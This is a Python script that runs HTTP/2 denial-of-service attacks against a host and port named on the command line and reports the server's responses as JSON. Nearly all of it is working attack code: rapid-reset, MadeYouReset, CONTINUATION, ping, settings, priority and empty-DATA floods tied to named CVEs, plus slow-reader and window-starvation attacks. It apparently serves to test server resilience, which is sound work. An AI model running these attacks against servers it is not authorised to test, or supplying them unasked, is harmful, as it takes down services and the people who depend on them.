#!/usr/bin/python3
"""
Runs an attack on an HTTP/2 server for a limited time: `hostile.py ATTACK HOST PORT`. Prints a report of the server's
frames as one line of JSON. Needs Debian's python3-h2.
"""

import argparse
import json
import sys

sys.dont_write_bytecode = True

from h2.errors import ErrorCodes  # noqa: E402
from h2.settings import SettingCodes  # noqa: E402
from hyperframe.frame import (  # noqa: E402
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from hostile_peer import LARGEST_WINDOW, PREFACE, Peer  # noqa: E402

UPLOAD = {"method": "PUT", "flags": ("END_HEADERS",)}


def reset_flood(peer, options):
    """Opens streams and resets them at once, with the code `--code` (CVE-2023-44487)."""
    peer.begin()
    code = ErrorCodes[options.code]
    flags = ["END_HEADERS", "END_STREAM"] if options.method == "GET" else ["END_HEADERS"]

    def send_once():
        stream = peer.next_stream
        peer.next_stream += 2
        peer.send(
            HeadersFrame(stream, peer.headers(options.method), flags=flags),
            RstStreamFrame(stream, code),
        )

    peer.flood(send_once)


def made_you_reset(peer, options):
    """
    Sends requests that the server has to reset (CVE-2025-8671). `--how` is the reason: `zero` (WINDOW_UPDATE of 0),
    `overflow` (window above 2^31 - 1), `closed` (DATA after END_STREAM), `length` (DATA beyond Content-Length), `field`
    (invalid header name), `fields` (too many headers) or `refused` (too many streams).
    """
    if options.how == "refused":
        peer.begin_with_window(0)
        peer.grants_streams = False
        peer.flood(peer.open)
        return
    peer.begin()

    def send_once():
        stream = peer.next_stream
        peer.next_stream += 2
        more = {
            "field": [("UPPER", "case")],
            "fields": [("x", "y")] * options.fields,
            "length": [("content-length", "1")],
        }.get(options.how, [])
        is_whole = options.how in ("field", "fields")
        flags = ["END_HEADERS", "END_STREAM"] if is_whole else ["END_HEADERS"]
        peer.send(HeadersFrame(stream, peer.headers("PUT", more=more), flags=flags))
        if options.how == "zero":
            peer.send(WindowUpdateFrame(stream, 0))
        elif options.how == "overflow":
            peer.send(WindowUpdateFrame(stream, LARGEST_WINDOW))
        elif options.how == "closed":
            peer.send(DataFrame(stream, b"x", flags=["END_STREAM"]), DataFrame(stream, b"x"))
        elif options.how == "length":
            peer.send(DataFrame(stream, b"xx"))

    peer.flood(send_once)


def continuation_flood(peer, options):
    """Sends CONTINUATION frames without END_HEADERS (CVE-2024-27983). `--how empty`: frames without a payload."""
    peer.begin()
    block = b"" if options.how == "empty" else b"\x00\x01x\x40" + b"a" * 64
    peer.send(HeadersFrame(1, peer.headers(), flags=["END_STREAM"]))
    peer.flood(lambda: peer.send(ContinuationFrame(1, block)))


def settings_flood(peer, options):
    """Sends SETTINGS, each of which needs an acknowledgement. `--how change`: each changes the initial window."""
    peer.begin()
    windows = [{SettingCodes.INITIAL_WINDOW_SIZE: size} for size in (1, 65_535)]

    def send_once():
        peer.send(SettingsFrame(0, windows[peer.sent["Settings"] % 2] if options.how == "change" else {}))

    peer.flood(send_once, reads=not options.no_read)


def ping_flood(peer, options):
    """Sends PINGs, each of which needs an answer. `--no-read`: the client does not read the answers."""
    peer.begin()
    ping = PingFrame(0, b"hotblob!")
    peer.flood(lambda: peer.send(ping), reads=not options.no_read)


def window_overflow(peer, options):
    """Increases the connection window above the maximum (RFC 9113, 6.9.1)."""
    peer.begin()
    peer.send(WindowUpdateFrame(0, LARGEST_WINDOW), WindowUpdateFrame(0, LARGEST_WINDOW))
    watch(peer)


def empty_data_flood(peer, options):
    """Sends an upload in empty DATA frames (CVE-2019-9518)."""
    peer.begin()
    stream = peer.open(**UPLOAD)
    peer.flood(lambda: peer.send(DataFrame(stream)))


def priority_flood(peer, options):
    """Changes the priorities of streams without end (CVE-2019-9513)."""
    peer.begin()

    def send_once():
        stream = 1 + 2 * (peer.sent["Priority"] % 1000)
        peer.send(PriorityFrame(stream, depends_on=0, stream_weight=peer.sent["Priority"] % 256))

    peer.flood(send_once)


def slow_reader(peer, options):
    """Reads each download at `--rate` bytes per second by its window. `--how socket`: reads the socket at that rate."""
    if options.how == "socket":
        peer.begin_with_window(LARGEST_WINDOW)
        open_streams(peer)
        step = 0.05
        most = max(1, int(options.rate * step))
        while not peer.is_over:
            peer.pump(0.01, most=most)
            peer.wait(step, reads=False)
        return
    peer.begin_with_window(options.window)
    peer.grants_streams = False
    open_streams(peer)
    granted = 0
    while not peer.is_over:
        peer.wait(0.05)
        increment = int(peer.now() * options.rate) - granted
        granted += increment
        for stream in [*open_stream_ids(peer)] if increment > 0 else []:
            peer.grant(stream, increment)


def no_window(peer, options):
    """Opens downloads with a window of 0. The client answers PING and SETTINGS."""
    peer.begin_with_window(0)
    peer.grants_streams = False
    open_streams(peer)
    watch(peer)


def deaf(peer, options):
    """Stops reading after the first bytes of the downloads. At the end, reads what the server has sent."""
    peer.begin_with_window(LARGEST_WINDOW)
    open_streams(peer)
    while not peer.is_over and peer.bytes_read == 0:
        peer.pump(0.05, most=1)
    while not peer.is_over:
        peer.pump(0.05, reads=False)
    # Unread bytes in the socket hide whether the server has closed the connection.
    if peer.closed_by != "reset":
        peer.answers_pings = peer.acks_settings = peer.grants_connection = peer.grants_streams = False
        options.seconds += options.listen
        watch(peer)


def half_preface(peer, options):
    """Sends the first `--bytes` bytes of preface and SETTINGS, in pieces of `--piece` bytes, `--pause` seconds apart."""
    data = (PREFACE + SettingsFrame(0).serialize())[: options.bytes]
    peer.speaks_http2 = options.bytes >= len(PREFACE)
    peer.acks_settings = False
    for at in range(0, len(data), options.piece):
        peer.raw(data[at : at + options.piece])
        peer.wait(options.pause)
    watch(peer)


def goaway_watch(peer, options):
    """
    Downloads and records the GOAWAYs of the server. Sends one more request after each GOAWAY. `--hold`: keeps the
    windows of the downloads closed for so many seconds.
    """
    peer.answers_pings = not options.no_pong
    peer.begin_with_window(0 if options.hold > 0 else LARGEST_WINDOW)
    peer.on_goaway = lambda goaway: peer.open() if goaway["code"] == "NO_ERROR" else None
    open_streams(peer)
    peer.wait(options.hold)
    if options.hold > 0:
        peer.send(SettingsFrame(0, {SettingCodes.INITIAL_WINDOW_SIZE: LARGEST_WINDOW}))
    watch(peer)


def settings_no_ack(peer, options):
    """Never acknowledges the server's SETTINGS."""
    peer.acks_settings = False
    peer.begin()
    open_streams(peer)
    watch(peer)


def too_many_streams(peer, options):
    """Opens more streams than the server allows, with a window of 0, so that no stream ends."""
    peer.begin_with_window(0)
    peer.grants_streams = False
    open_streams(peer)
    watch(peer)


def too_many_headers(peer, options):
    """Sends a request with `--fields` headers of `--size` bytes each."""
    peer.begin()
    stream = peer.next_stream
    peer.next_stream += 2
    block = peer.headers(more=[(f"x-{number}", "v" * options.size) for number in range(options.fields)])
    first, *rest = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
    peer.streams[stream] = {"openedAt": peer.now(), "status": None, "bytes": 0, "endedAt": None, "reset": None}
    peer.send(HeadersFrame(stream, first, flags=["END_STREAM"] if rest else ["END_HEADERS", "END_STREAM"]))
    for number, piece in enumerate(rest, 1):
        peer.send(ContinuationFrame(stream, piece, flags=["END_HEADERS"] if number == len(rest) else []))
    watch(peer)


def headers_then_silence(peer, options):
    """Sends the headers of uploads and no bodies. The client answers PING and SETTINGS."""
    peer.begin()
    for _ in range(options.streams):
        peer.open(**UPLOAD, more=[("content-length", str(options.bytes))])
    watch(peer)


def open_streams(peer):
    for _ in range(peer.options.streams):
        peer.open()


def open_stream_ids(peer):
    return (number for number, stream in peer.streams.items() if stream["endedAt"] is None and stream["reset"] is None)


def watch(peer):
    while not peer.is_over:
        peer.pump(0.05)


ATTACKS = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        reset_flood,
        made_you_reset,
        continuation_flood,
        settings_flood,
        ping_flood,
        window_overflow,
        empty_data_flood,
        priority_flood,
        slow_reader,
        no_window,
        deaf,
        half_preface,
        goaway_watch,
        settings_no_ack,
        too_many_streams,
        too_many_headers,
        headers_then_silence,
    )
}


def arguments():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--seconds", type=float, default=5, help="time limit of the attack")
    parser.add_argument("--path", default="/")
    parser.add_argument("--how", default="", help="variant of the attack")
    parser.add_argument("--code", choices=[code.name for code in ErrorCodes], default="CANCEL")
    parser.add_argument("--method", default="GET", help="method of a reset flood; all but GET announce a body")
    parser.add_argument("--streams", type=int, default=1)
    parser.add_argument("--count", type=int, help="maximum number of repetitions of a flood")
    parser.add_argument("--rate", type=float, help="repetitions per second; bytes per second of slow-reader")
    parser.add_argument("--window", type=int, default=1, help="initial stream window of slow-reader")
    parser.add_argument("--receive-buffer", type=int, help="SO_RCVBUF, in bytes")
    parser.add_argument("--no-read", action="store_true")
    parser.add_argument("--no-pong", action="store_true")
    parser.add_argument("--hold", type=float, default=0)
    parser.add_argument("--listen", type=float, default=2, help="seconds that deaf reads at the end")
    parser.add_argument("--bytes", type=int, default=12)
    parser.add_argument("--piece", type=int, default=1)
    parser.add_argument("--pause", type=float, default=0.05)
    parser.add_argument("--fields", type=int, default=200)
    parser.add_argument("--size", type=int, default=8)
    parser.add_argument("--most-streams", type=int, default=200, help="maximum number of streams in the report")
    return parser.parse_args()


def main():
    options = arguments()
    peer = Peer(options)
    ATTACKS[options.attack](peer, options)
    print(json.dumps({"attack": options.attack, **peer.report()}))


if __name__ == "__main__":
    main()
